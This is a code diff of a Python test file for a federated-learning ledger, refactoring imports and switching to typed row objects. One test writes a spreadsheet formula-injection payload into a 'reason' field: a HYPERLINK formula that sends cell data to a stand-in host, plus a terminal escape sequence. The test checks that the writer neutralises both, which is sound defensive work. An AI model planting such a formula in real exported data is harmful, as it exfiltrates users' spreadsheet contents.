@@ -29,8 +29,10 @@ import pytest
 
 from fedvalue.run import rundir
 from fedvalue.run.archive import read_round_record, record_path, write_round_record
-from fedvalue.run.ledger_tables import LedgerWriter, load_run, read_ledger_csv
-from fedvalue.schema import ClientEntry
+from fedvalue.analysis.run_summary import load_run
+from fedvalue.run.ledger_reader import read_ledger_csv
+from fedvalue.run.ledger_tables import LedgerWriter
+from fedvalue.schema import ClientEntry, LedgerRow, RoundRow
 from simulations.cli.main import main
 from simulations.experiments.noisy_clients.noisy_clients import utility_from_run
 from tests.fedvalue.forgery import rebook_last_round, rechain, reseal
@@ -373,9 +375,10 @@ def test_control_characters_never_reach_the_terminal(signed_run, copy, capsys):
 
 def test_a_failing_clients_reason_reaches_the_csv_neither_as_formula_nor_as_escapes(tmp_path):
     writer = LedgerWriter(tmp_path / "run", config={"seed": 0})
-    row = {"round": 1, "client_id": 3, "method": "ads", "value": None, "stderr": None, "num_examples": None,
-           "status": "failed", "noisy": False, "reason": '=HYPERLINK("http://x.example/?"&A1,"ok")\x1b[2J'}
-    writer.write_round({"round": 1, "clients": "3", "num_clients": 1, "num_failed": 1}, [row])
+    row = LedgerRow(round=1, client_id=3, method="ads", value=None, stderr=None, num_examples=None, status="failed",
+                    noisy=False, reason='=HYPERLINK("http://x.example/?"&A1,"ok")\x1b[2J')
+    writer.write_round(RoundRow(round=1, clients="3", num_clients=1, num_failed=1, utility_before=0.0,
+                                utility_realized=0.0), [row])
     reason = next(csv.DictReader(io.StringIO((tmp_path / "run" / "ledger.csv").read_text())))["reason"]
     assert reason.startswith("'=HYPERLINK") and "\x1b" not in reason and "\\x1b[2J" in reason
 
